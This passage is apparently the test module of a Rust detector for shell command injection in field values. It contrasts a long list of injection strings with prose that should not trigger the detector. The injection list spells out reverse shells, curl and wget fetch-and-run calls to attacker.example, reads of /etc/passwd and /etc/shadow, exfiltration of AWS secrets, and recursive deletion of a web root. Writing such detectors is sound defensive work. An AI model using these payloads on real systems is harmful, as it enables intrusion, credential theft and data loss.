        fn one_char_at_a_time(s: &str, mut i: usize, open: u8, limit: usize) -> (usize, bool) {
            while i < limit {
                if s.as_bytes()[i] == open {
                    return (i, true);
                }
                i += s[i..].chars().next().map_or(1, char::len_utf8);
            }
            (i, false)
        }
        const PIECES: &[&str] = &["'", "\"", "a", " ", "é", "日本", "\\", "$x", "😀"];
        let mut x: u64 = 7;
        for case in 0..20_000 {
            let mut v = String::new();
            for _ in 0..(case % 30 + 1) {
                x = x
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                v.push_str(PIECES[((x >> 33) % PIECES.len() as u64) as usize]);
            }
            let starts: Vec<usize> = (0..v.len()).filter(|&i| v.is_char_boundary(i)).collect();
            let i = starts[(x >> 20) as usize % starts.len()];
            let limit = (i + (x >> 40) as usize % 24).min(v.len());
            for open in [b'\'', b'"'] {
                assert_eq!(
                    quoted_run(&v, i, open, limit),
                    one_char_at_a_time(&v, i, open, limit),
                    "{v:?} from {i} to {limit}"
                );
            }
        }
    }

    fn hit(v: &str) -> bool {
        detect(v, Strictness::Generic).is_some()
    }

    #[test]
    fn a_run_of_separators_is_judged_by_its_last() {
        assert!(hit("x;;;;;cat /etc/passwd"));
        assert!(hit("report.pdf\n\n\nwget http://attacker.example/x.sh"));
        assert!(!hit(&";".repeat(10_000)));
        assert!(!hit(&"\n".repeat(10_000)));
        assert!(!hit("first line;;\n\nsecond line"));
    }

    #[test]
    fn injections() {
        for v in [
            "report.pdf; cat /etc/passwd",
            // Names that end in digits.
            "a;base64 -d payload.b64",
            "a;sqlite3 /tmp/x.db",
            "x && curl http://attacker.example/x.sh | sh",
            "file.txt | whoami",
            "a`id`b",
            "`id`",
            "$(wget -q -O- attacker.example)",
            "name;id",
            "|| ping -c 10 10.0.0.1",
            "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "foo\nnc -e /bin/sh 10.0.0.1 4444",
            "x;${IFS}cat${IFS}/etc/shadow",
            "img.png & powershell -enc SQBFAFgA",
            "; sleep 10",
            "test$(sleep 5)",
            "x | base64 -d | sh",
            // A shell or interpreter alone, named by its path.
            "x | /bin/sh",
            "data.csv | /usr/bin/python3",
            "x;c'a't /e\"t\"c/pas's'wd",
            "x;c\\at /etc/passwd",
            "x;{cat,/etc/passwd}",
            "a; /bin/cat /etc/passwd",
            "x|/usr/bin/id",
            "a & whoami",
            "x\"; id; \"",
            "a;$@cat /etc/passwd",
            "x; python3 -c 'import os'",
            "x & ping -n 5 127.0.0.1",
            "file.txt\r\ndel /q /s C:\\inetpub\\wwwroot\\*",
            "; id #",
            "$(printenv AWS_SECRET_ACCESS_KEY)",
            // A pipe on the value's first line follows the command it is pasted into.
            "| python -c 'import os; os.system(\"id\")'",
            "name\\\n| sh",
            // Inside double quotes, backticks glued to a word or wrapping the value still run.
            "a\"b`id`",
            "x \"`wget attacker.example/x`\"",
            // A fence that does not close, or not at the start of a line, hides nothing.
            "```\nx; cat /etc/passwd",
            "x ```; cat /etc/passwd```",
            // A literal block ends where the text comes back to the opener's indentation.
            "see::\n\n    ok\nx; cat /etc/passwd",
            "```\nok\n``` ; cat /etc/passwd",
            // What a documented command line does not do.
            "aws s3 ls $(curl -s http://attacker.example/x | sh)",
            // After a newline in text, a dangerous command with a shell's argument.
            "Thanks for the report.\nls -la\ncurl -s -o /tmp/x attacker.example",
            "see below\ncd /srv\nsh -c id",
        ] {
            assert!(hit(v), "missed: {v}");
        }
    }

    #[test]
    fn prose() {
        for v in [
            "passport & ID",
            "passport & id",
            "; update user settings",
            "Use `ls -la` to list files",
            "Run `whoami`, then `id` in a shell",
            "```\nls -la\n```",
            "Meeting at 10; bring id card",
            "Tom & Jerry | the complete series",
            "email me at a@b.co; or call",
            "Price: $(19.99) after discount",
            "curl is a tool I like",
            "ls -la is a command I typed once in class",
            "rm is short for room",
            "I like tools; curl is great",
            "Enough; sleep",
            "The dog; cat food",
            "Where's the cat? Cat is sleeping; dogs are barking.",
            "echo chamber",
            "Hello\nls is short for list",
            "D'Angelo & Sons; est. 1952",
            "Fish & chips; echo of the sea",
            "[database]\nhost = db.internal.example.com\nport = 5432",
            "cd ~/projects/app && ls -la",
            "```python\nprint(\"hello, world\")\n```",
            "/items/`exec()` in our codebase is the job executor",
            // Markdown tables: every row starts with `|`, which no shell accepts.
            "## Runtimes\n\n| Name | Language |\n|---|---|\n| [Auth API](./auth) | python |\n| Worker | sh -c |",
            // A stray quote: the code spans after it are still Markdown, not substitutions.
            "Open `http://localhost:9999/' in a browser.\nThen run `npm install` and `npm run dev`.",
            "He said \"run `npm install` first\", and it worked",
            // Fenced code blocks are code shown (indented in a list, too).
            "1. Deploy:\n   ```bash\n   export ARN=$(aws cloudformation describe-stacks --query 'x' --output text)\n   curl -X POST \"$URL\" | jq .\n   ```\n2. Done; check the logs.",
            // A quote inside a fenced block or a code span does not shift what is code.
            "Setup:\n```bash\necho 'hi\n```\nThen:\n```bash\ncd src && zip -r /tmp/app.zip . && cd -\n```\n",
            "- Messages with `eventType:\"Lambda\"` go to the Lambda function.",
            "5. Add `app.UsePathBase(\"/prod\");` in your `Program.cs` file.",
            "Look at its contents::\n\n    $ unzip -l /tmp/app.zip | tail -n 5\n    $ cat sam.json | jq .\n\nThen deploy.",
            // A value that is a command line runs its own substitutions.
            "aws lambda invoke --function-name $(aws cloudformation describe-stacks --query x --output text) out.json",
        ] {
            assert!(
                !hit(v),
                "false positive: {v}: {:?}",
                detect(v, Strictness::Generic)
            );
        }
    }

    #[test]
    fn markdown_code_and_tables_are_blanked_in_place() {
        let doc = "a\n```sh\nrm -rf / é\n```\nb `x`\n  ````\n;id\n  ````\n```\nopen";
        let blanked = markdown_blanked(doc).unwrap();
        assert_eq!(blanked.len(), doc.len());
        assert_eq!(
            blanked,
            // `é` is two bytes: offsets are kept, so it becomes two blanks.
            "a\n```  \n           \n```\nb `x`\n  ````\n   \n  ````\n```\nopen"
        );
        // Fences that do not start a line, or do not close, blank nothing.
        // reStructuredText literal blocks, up to the first line as shallow as their opener.
        assert_eq!(
            markdown_blanked(
                "Run::\n\n    $ ls | wc -l\n\nDone; then\n.. code-block:: sh\n\n  a; id\nb"
            )
            .unwrap(),
            "Run::\n\n                \n\nDone; then\n.. code-block:: sh\n\n       \nb"
        );
        assert_eq!(markdown_blanked("x ```; id```"), None);
        assert_eq!(markdown_blanked("```\n; id"), None);
        assert_eq!(markdown_blanked("````\n; id\n```"), None);
        // Lines that start with `|`, but not the value's first (appended to a command).
        assert_eq!(
            markdown_blanked("| a | sh |\n|---|\n  | python | 3 |\nx | sh").unwrap(),
            "| a | sh |\n     \n                \nx | sh"
        );
    }

    #[test]
    fn strict_fields_take_any_command() {
        assert!(detect("x; frobnicate", Strictness::Sink).is_some());
        assert!(detect("x; frobnicate", Strictness::Generic).is_none());
        assert!(detect("```\nx; cat /etc/passwd\n```", Strictness::Sink).is_some());
        // A field known to reach a shell: a code span inside double quotes runs.
        assert!(detect("x \"run `id` now\"", Strictness::Sink).is_some());
    }
}
